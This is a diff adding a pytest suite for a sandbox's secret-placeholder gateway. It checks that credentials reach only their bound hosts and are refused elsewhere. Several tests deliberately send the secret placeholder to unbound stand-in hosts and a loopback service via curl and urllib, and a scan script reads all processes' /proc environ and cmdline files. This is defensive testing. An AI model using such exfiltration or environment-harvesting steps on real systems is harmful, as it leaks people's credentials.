@@ -1,0 +1,427 @@
+"""
+Credentials that never enter the sandbox (`--secret`, policy `secrets:`).
+
+The servers of test_egress.py stand in for the internet on 127.0.0.2: a.test
+and b.test are the hosts secrets are bound to (plain HTTP and HTTPS each),
+other.test is allowed but bound to nothing, and an "internal" service on
+127.0.0.1 must never see a connection. cordon itself runs with SSL_CERT_FILE
+naming the test CA, so that its gateway trusts the HTTPS servers; the sandbox
+trusts the gateway's per-run CA. /headers echoes Authorization and X-Api-Key.
+"""
+
+import json
+import os
+import pathlib
+import re
+import secrets
+import shutil
+import ssl
+import subprocess
+import tempfile
+import time
+
+import pytest
+
+import egress_servers as es
+from conftest import assert_cordon_refused
+
+EG = "/eg"
+NAMES = ("a.test", "b.test", "other.test")
+PLACEHOLDER = re.compile(r"cordon-placeholder-[0-9a-f]{32}")
+CURL = "curl -sS --max-time 20"
+
+# In the sandbox: python3 /eg/req.py '[[URL, {HEADER: VALUE}], ...]'. "{A}" in
+# a URL or a value is the sandbox's $A. One JSON line per request.
+REQ = """
+import json, os, sys, urllib.error, urllib.request
+for url, hdrs in json.loads(sys.argv[1]):
+    url = url.format_map(os.environ)
+    hdrs = {k: v.format_map(os.environ) for k, v in hdrs.items()}
+    try:
+        r = urllib.request.urlopen(urllib.request.Request(url, headers=hdrs), timeout=20)
+        st, h, b = r.status, r.headers, r.read()
+    except urllib.error.HTTPError as e:
+        st, h, b = e.code, e.headers, e.read()
+    except OSError as e:
+        print(json.dumps({"error": repr(e)}), flush=True)
+        continue
+    print(json.dumps({"status": st, "denied": h.get("X-Cordon-Denied"),
+                      "body": b.decode("latin-1")}), flush=True)
+"""
+
+# In the sandbox: python3 /eg/scan.py REVERSED-VALUE PLACEHOLDER-VAR. Reads
+# every readable file of the sandbox's view that could hold the value and
+# prints which hold the value (never written in its argv: it gets it reversed)
+# and which hold the placeholder (the control: the scan does see things).
+SCAN = """
+import json, os, sys
+val, ph = sys.argv[1][::-1].encode(), os.environ[sys.argv[2]].encode()
+out = {"files": 0, "value": [], "placeholder": []}
+def scan(p):
+    if os.path.islink(p):
+        return  # /proc/self/fd/1 is our stdout pipe: reading it would block
+    try:
+        with open(p, "rb") as f:
+            data = f.read(8 << 20)
+    except OSError:
+        return
+    out["files"] += 1
+    out["value"] += [p] if val in data else []
+    out["placeholder"] += [p] if ph in data else []
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        scan(f"/proc/{pid}/cmdline")
+        scan(f"/proc/{pid}/environ")
+for top in ("/etc", "/tmp", "/workspace", "/proc/self"):
+    for dp, dns, fns in os.walk(top):
+        for f in fns:
+            scan(os.path.join(dp, f))
+out["env"] = any(val in f"{k}={v}".encode() for k, v in os.environ.items())
+print(json.dumps(out))
+"""
+
+
+def sign(d, stem, name, ca="ca"):
+    """A server certificate for NAME signed by D/CA.pem: D/STEM.pem, D/STEM.key."""
+    def ssl_(*args):
+        subprocess.run(["openssl", *args], cwd=d, check=True, capture_output=True)
+    ssl_("req", "-newkey", "rsa:2048", "-nodes", "-keyout", f"{stem}.key", "-out",
+         f"{stem}.csr", "-subj", f"/CN={name}")
+    (d / f"{stem}.cnf").write_text(f"subjectAltName=DNS:{name}\n")
+    ssl_("x509", "-req", "-in", f"{stem}.csr", "-CA", f"{ca}.pem", "-CAkey", f"{ca}.key",
+         "-CAcreateserial", "-out", f"{stem}.pem", "-days", "2", "-extfile", f"{stem}.cnf")
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(d / f"{stem}.pem", d / f"{stem}.key")
+    return ctx
+
+
+class Net:
+    def __init__(self, d):
+        self.dir = d
+        self.ca, cert, key = es.make_ca(d, list(NAMES), ["127.0.0.2"])
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        ctx.load_cert_chain(cert, key)
+        self.a_web, self.a_tls = es.Server("a", "127.0.0.2"), es.Server("a", "127.0.0.2", ctx)
+        self.b_web, self.b_tls = es.Server("b", "127.0.0.2"), es.Server("b", "127.0.0.2", ctx)
+        self.o_web = es.Server("other", "127.0.0.2")
+        self.o_tls = es.Server("other", "127.0.0.2", ctx)
+        self.internal = es.Server("internal", "127.0.0.1")
+        # a.test with a certificate cordon does not trust (another CA), and
+        # with one from the trusted CA but for another name.
+        rogue = d / "rogue"
+        rogue.mkdir()
+        es.make_ca(rogue, ["a.test"], ["127.0.0.2"])
+        rctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        rctx.load_cert_chain(rogue / "srv.pem", rogue / "srv.key")
+        self.untrusted = es.Server("untrusted", "127.0.0.2", rctx)
+        self.wrong_name = es.Server("wrong", "127.0.0.2", sign(d, "wrong", "elsewhere.test"))
+        (d / "req.py").write_text(REQ)
+        (d / "scan.py").write_text(SCAN)
+        for f in ("ca.pem", "req.py", "scan.py"):
+            os.chmod(d / f, 0o644)
+
+    def servers(self):
+        return (self.a_web, self.a_tls, self.b_web, self.b_tls, self.o_web, self.o_tls,
+                self.internal, self.untrusted, self.wrong_name)
+
+    def url(self, srv, path="/headers"):
+        host = {"a": "a.test", "b": "b.test", "other": "other.test"}.get(srv.name, "a.test")
+        return f"{'https' if srv.tls else 'http'}://{host}:{srv.port}{path}"
+
+    @staticmethod
+    def hosts(*srvs, name="a.test"):
+        return ",".join(f"{name}:{s.port}" for s in srvs)
+
+    def opts(self, *extra):
+        o = ["--allow-private", "127.0.0.2/32", "--ro", f"{self.dir}:{EG}", "-t", "60s",
+             "--allow", f"other.test:{self.o_web.port}",
+             "--allow", f"other.test:{self.o_tls.port}"]
+        for n in NAMES:
+            o += ["--resolve", f"{n}=127.0.0.2"]
+        return o + list(extra)
+
+
+@pytest.fixture(scope="module")
+def net():
+    d = pathlib.Path(tempfile.mkdtemp(prefix="cit-secrets-"))
+    os.chmod(d, 0o755)
+    n = Net(d)
+    yield n
+    for s in n.servers():
+        s.close()
+    shutil.rmtree(d, ignore_errors=True)
+
+
+@pytest.fixture(autouse=True)
+def untouched(net):
+    """Fresh counters per test; the internal service sees nothing."""
+    for s in net.servers():
+        s.reset()
+    yield
+    assert net.internal.count() == 0, net.internal.requests
+
+
+def values(*names):
+    return {n: f"real-{n}-" + secrets.token_hex(16) for n in names}
+
+
+def inside(cordon, net, cmd, *opts, vals=None, **kw):
+    """CMD in a sandbox with the gateway; cordon's env has VAL_<NAME> for each
+    value and SSL_CERT_FILE naming the test CA."""
+    env = {"SSL_CERT_FILE": str(net.ca)}
+    env.update({f"VAL_{k}": v for k, v in (vals or {}).items()})
+    return cordon.run(cmd, *net.opts(*opts), env=env, **kw)
+
+
+def req(cordon, net, reqs, *opts, **kw):
+    r = inside(cordon, net, ["python3", f"{EG}/req.py", json.dumps(reqs)], *opts, **kw)
+    assert r.status == 0, r
+    return [json.loads(l) for l in r.out.splitlines()], r
+
+
+def auth(srv):
+    return [q["headers"].get("Authorization") for q in srv.requests]
+
+
+def assert_no_value(val, r, log=None, echoed=False):
+    """Nowhere in what cordon gave back: stderr, result, audit log, and stdout
+    unless a server ECHOED it back (the server's doing, not cordon's)."""
+    v = val.encode()
+    assert v not in r.stderr and (echoed or v not in r.stdout), r
+    assert val not in json.dumps(r.result), r.result
+    if log is not None:
+        assert v not in log.read_bytes()
+
+
+def assert_refused(o, rule, r=None):
+    assert o.get("status") == 403 and o.get("denied") == rule, f"{o}\n{r or ''}"
+
+
+# --- the value reaches the bound server, the sandbox holds a placeholder -----
+
+
+def test_value_reaches_bound_server_http_and_https(cordon, net):
+    v = values("A")
+    log = cordon.hostdir("audit") / "audit.log"
+    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
+    py = json.dumps([[net.url(s), {"X-Api-Key": "{A}"}] for s in (net.a_web, net.a_tls)])
+    cmd = ["sh", "-c",
+           f'echo "$A"; for u in {net.url(net.a_web)} {net.url(net.a_tls)}; do '
+           f'{CURL} -H "Authorization: Bearer $A" $u || exit 9; done; '
+           f"python3 {EG}/req.py '{py}'"]
+    r = inside(cordon, net, cmd, "--secret", sec, "--audit", log, vals=v)
+    assert r.status == 0, r
+    lines = r.out.splitlines()
+    assert PLACEHOLDER.fullmatch(lines[0]), r
+    # The servers echo what they got: the value, exactly, behind the placeholder.
+    assert lines[1:5] == [f"Authorization=Bearer {v['A']}", "X-Api-Key="] * 2, r
+    got = [json.loads(l)["body"] for l in lines[5:]]
+    assert got == [f"Authorization=\nX-Api-Key={v['A']}\n"] * 2, r
+    for srv in (net.a_web, net.a_tls):
+        assert auth(srv) == [f"Bearer {v['A']}", None], srv.requests
+        assert srv.requests[1]["headers"]["X-Api-Key"] == v["A"]
+        assert lines[0] not in repr(srv.requests)
+    recent = r.result["egress"]["recent"]
+    assert [d["port"] for d in recent] == [net.a_web.port, net.a_tls.port] * 2, recent
+    for d in recent:
+        assert d["allowed"] and d["status"] == 200 and d["secrets"] == ["A"], d
+        assert d.get("intercepted", False) == (d["port"] == net.a_tls.port), d
+    events = [json.loads(l) for l in log.read_text().splitlines()]
+    dec = [e for e in events if e["type"] == "egress.decision"]
+    assert [(e["secrets"], e.get("intercepted", False)) for e in dec] == \
+        [(["A"], False), (["A"], True)] * 2, dec
+    # The server's echo is the server's doing; cordon's own record holds no value.
+    assert v["A"].encode() not in r.stderr and v["A"] not in json.dumps(r.result)
+    assert v["A"].encode() not in log.read_bytes()
+    again = inside(cordon, net, ["sh", "-c", 'echo "$A"'], "--secret", sec, vals=v)
+    assert again.status == 0 and PLACEHOLDER.fullmatch(again.out.strip()), again
+    assert again.out.strip() != lines[0]
+
+
+def test_value_nowhere_in_the_sandbox_view(cordon, net):
+    v = values("A")
+    log = cordon.hostdir("audit") / "audit.log"
+    ws = cordon.hostdir("ws")
+    sec = f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}"
+    # Use the secret (swapped by the gateway, answers without echo), try to
+    # send it elsewhere (the refusal's message is in the view too), then scan.
+    cmd = ["sh", "-c",
+           f'for u in {net.url(net.a_web, "/x")} {net.url(net.a_tls, "/x")}; do '
+           f'{CURL} -H "Authorization: Bearer $A" -o /tmp/out.$$ $u || exit 9; done; '
+           f'{CURL} -H "Authorization: Bearer $A" {net.url(net.o_web)} >/workspace/refused; '
+           f"env >/tmp/env.txt; cat /proc/self/environ >/workspace/environ 2>/dev/null; "
+           f"python3 {EG}/scan.py {v['A'][::-1]} A"]
+    r = inside(cordon, net, cmd, "--secret", sec, "--audit", log, "-w", ws, vals=v)
+    assert r.status == 0, r
+    out = json.loads(r.out)
+    assert out["value"] == [] and out["env"] is False, out
+    assert out["files"] > 100, out
+    for f in ("/proc/self/environ", "/tmp/env.txt", "/workspace/environ"):
+        assert f in out["placeholder"], out
+    assert auth(net.a_web) == auth(net.a_tls) == [f"Bearer {v['A']}"]
+    assert net.o_web.count() == 0
+    assert_no_value(v["A"], r, log)
+    assert not any(v["A"].encode() in f.read_bytes() for f in ws.rglob("*") if f.is_file())
+
+
+# --- exfiltration -------------------------------------------------------------
+
+
+def test_placeholder_to_other_hosts_is_refused(cordon, net):
+    v = values("A")
+    log = cordon.hostdir("audit") / "audit.log"
+    sec = f"A=env:VAL_A@{net.hosts(net.a_web)}"
+    reqs = [[net.url(net.o_web), {"Authorization": "Bearer {A}"}],
+            [net.url(net.o_web, "/q?token={A}"), {}],
+            [net.url(net.o_web), {"X-Anything": "x{A}x"}],
+            [f"http://127.0.0.1:{net.internal.port}/", {"Authorization": "Bearer {A}"}],
+            [net.url(net.a_web), {"Authorization": "Bearer {A}"}]]
+    out, r = req(cordon, net, reqs, "--secret", sec, "--audit", log, vals=v)
+    for o in out[:3]:
+        assert_refused(o, "exfil:A", r)
+        assert o["body"].count("\n") == 1 and v["A"] not in o["body"], o
+    assert out[3]["status"] == 403, out
+    assert out[3]["denied"] in ("exfil:A", "not_allowed", "ssrf:loopback"), out
+    assert out[4] == {"status": 200, "denied": None,
+                      "body": f"Authorization=Bearer {v['A']}\nX-Api-Key=\n"}, out
+    assert net.o_web.count() == 0, net.o_web.requests
+    events = [json.loads(l) for l in log.read_text().splitlines()]
+    dec = [e for e in events if e["type"] == "egress.decision"]
+    assert [(e["allowed"], e["host"], e["rule"], e["status"]) for e in dec[:3]] == \
+        [(False, "other.test", "exfil:A", 403)] * 3, dec
+    assert [d["rule"] for d in r.result["egress"]["recent"][:3]] == ["exfil:A"] * 3
+    assert r.result["egress"]["refused"] == 4, r
+    assert_no_value(v["A"], r, log, echoed=True)
+
+
+def test_https_to_unbound_host_is_tunnelled_untouched(cordon, net):
+    # HTTPS to a host no secret is bound to is a plain CONNECT tunnel: the
+    # gateway cannot see the placeholder inside it, so it cannot refuse it.
+    # What matters is that the value is not what arrives: the placeholder is.
+    v = values("A")
+    sec = f"A=env:VAL_A@{net.hosts(net.a_web)}"
+    cmd = ["sh", "-c", f'{CURL} --cacert {EG}/ca.pem -H "Authorization: Bearer $A" '
+                       f'{net.url(net.o_tls)}; echo "$A"']
+    r = inside(cordon, net, cmd, "--secret", sec, vals=v)
+    assert r.status == 0, r
+    ph = r.out.splitlines()[-1]
+    assert auth(net.o_tls) == [f"Bearer {ph}"], net.o_tls.requests
+    (d,) = r.result["egress"]["recent"]
+    assert d["method"] == "CONNECT" and not d.get("intercepted") and not d.get("secrets"), d
+    assert_no_value(v["A"], r)
+
+
+def test_two_secrets_each_to_its_own_host(cordon, net):
+    v = values("A", "B")
+    opts = ["--secret", f"A=env:VAL_A@{net.hosts(net.a_web, net.a_tls)}",
+            "--secret", f"B=env:VAL_B@{net.hosts(net.b_web, net.b_tls, name='b.test')}"]
+    reqs = [[net.url(net.a_web), {"Authorization": "Bearer {A}"}],
+            [net.url(net.b_web), {"Authorization": "Bearer {B}"}],
+            [net.url(net.a_tls), {"X-Api-Key": "{A}"}],
+            [net.url(net.b_tls), {"X-Api-Key": "{B}"}],
+            [net.url(net.b_web), {"Authorization": "Bearer {A}"}],
+            [net.url(net.a_web), {"X-Api-Key": "{B}"}],
+            [net.url(net.b_tls), {"Authorization": "Bearer {A}"}]]
+    out, r = req(cordon, net, reqs, *opts, vals=v)
+    assert [o["status"] for o in out[:4]] == [200] * 4, out
+    assert_refused(out[4], "exfil:A", r)
+    assert_refused(out[5], "exfil:B", r)
+    assert_refused(out[6], "exfil:A", r)  # inside the intercepted tunnel to b.test
+    assert auth(net.a_web) == [f"Bearer {v['A']}"] and auth(net.b_web) == [f"Bearer {v['B']}"]
+    assert [q["headers"]["X-Api-Key"] for q in net.a_tls.requests] == [v["A"]]
+    assert [q["headers"]["X-Api-Key"] for q in net.b_tls.requests] == [v["B"]]
+    secs = [d.get("secrets") for d in r.result["egress"]["recent"][:4]]
+    assert secs == [["A"], ["B"], ["A"], ["B"]], r.result["egress"]
+    for val in v.values():
+        assert_no_value(val, r, echoed=True)
+
+
+# --- sources, ttl, upstream trust, a missing value ----------------------------
+
+
+def policy(cordon, text):
+    p = cordon.hostdir() / "policy.yaml"
+    p.write_text("version: 1\n" + text)
+    os.chown(p, cordon.ident.uid, cordon.ident.gid)
+    return ["-p", p]
+
+
+def test_file_source_without_trailing_newline(cordon, net, host_secret):
+    path, value = host_secret  # 0600, the value and a newline
+    hosts = f'["a.test:{net.a_web.port}", "a.test:{net.a_tls.port}"]'
+    pol = policy(cordon, f"secrets:\n  - name: T\n    from: file:{path}\n    hosts: {hosts}\n")
+    reqs = [[net.url(s), {"Authorization": "Bearer {T}"}] for s in (net.a_web, net.a_tls)]
+    out, r = req(cordon, net, [*reqs, [net.url(net.o_web), {"X-Api-Key": "{T}"}]], *pol)
+    assert [o["body"] for o in out[:2]] == [f"Authorization=Bearer {value}\nX-Api-Key=\n"] * 2
+    assert auth(net.a_web) == auth(net.a_tls) == [f"Bearer {value}"]
+    assert_refused(out[2], "exfil:T", r)
+    assert str(path).encode() not in r.stdout
+    assert_no_value(value, r, echoed=True)
+
+
+def test_ttl_expires_the_placeholder(cordon, net):
+    v = values("A")
+    pol = policy(cordon, f"secrets:\n  - name: A\n    from: env:VAL_A\n"
+                         f"    hosts: [\"a.test:{net.a_web.port}\"]\n    ttl: 1s\n")
+    code = (f"{CURL} -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $A\" "
+            f"{net.url(net.a_web)}")
+    cmd = ["sh", "-c", f"{code}; sleep 2; {code.replace('-o /dev/null', '-D - -o /dev/null')}"]
+    r = inside(cordon, net, cmd, *pol, vals=v)
+    assert r.status == 0, r
+    assert r.out.startswith("200\n"), r
+    assert " 403 " in r.out and "X-Cordon-Denied: secret_expired:A\r\n" in r.out, r
+    assert auth(net.a_web) == [f"Bearer {v['A']}"]
+    recent = r.result["egress"]["recent"]
+    assert [d["rule"] for d in recent][-1] == "secret_expired:A", recent
+    assert_no_value(v["A"], r)
+
+
+def untrusted_upstream(cordon, net, which, n=6):
+    """N requests with the secret to a bound host whose certificate cordon
+    does not accept (the bug below is a race: one try would be flaky)."""
+    srv = getattr(net, which)
+    v = values("A")
+    out, r = req(cordon, net, [[net.url(srv), {"Authorization": "Bearer {A}"}]] * n,
+                 "--secret", f"A=env:VAL_A@{net.hosts(srv)}", vals=v)
+    return srv, v["A"], out, r
+
+
+@pytest.mark.parametrize("which", ["untrusted", "wrong_name"])
+def test_upstream_not_trusted_never_gets_the_value(cordon, net, which):
+    srv, val, out, r = untrusted_upstream(cordon, net, which)
+    assert len(out) == 6 and all(o.get("status") != 200 for o in out), (out, r)
+    assert val not in json.dumps(out), out
+    # Every handshake failed: no request, so no header with the value, was sent.
+    assert srv.requests == [], srv.requests
+    recent = r.result["egress"]["recent"]
+    assert len(recent) == 6, recent
+    for d in recent:
+        assert (d["rule"], d["status"], d["allowed"]) == ("upstream_tls", 502, False), d
+        assert d["intercepted"] and "certificate verify failed" in d["reason"], d
+    assert_no_value(val, r)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "cordon bug: when the upstream TLS handshake of an intercepted CONNECT fails, "
+    "the gateway records 502 upstream_tls but the client almost always (~95%) sees "
+    "only the connection closed (curl: (52) Empty reply from server), not the 502"))
+@pytest.mark.parametrize("which", ["untrusted", "wrong_name"])
+def test_upstream_not_trusted_client_gets_502(cordon, net, which):
+    _, _, out, r = untrusted_upstream(cordon, net, which)
+    for o in out:
+        assert o.get("status") == 502 and o.get("denied") == "upstream_tls", (out, r)
+
+
+@pytest.mark.parametrize("form", ["flag", "policy"])
+def test_missing_env_var_is_refused(cordon, net, form):
+    var = "CORDON_IT_UNSET_" + secrets.token_hex(4).upper()
+    if form == "flag":
+        opts = ["--secret", f"A=env:{var}@a.test"]
+    else:
+        opts = policy(cordon, f"secrets:\n  - name: A\n    from: env:{var}\n"
+                              f"    hosts: [a.test]\n")
+    t0 = time.monotonic()
+    r = cordon.run(["true"], *opts, env={"SSL_CERT_FILE": str(net.ca)})
+    assert_cordon_refused(r, var, "not set")
+    assert time.monotonic() - t0 < 30
+    assert r.stdout == b"", r
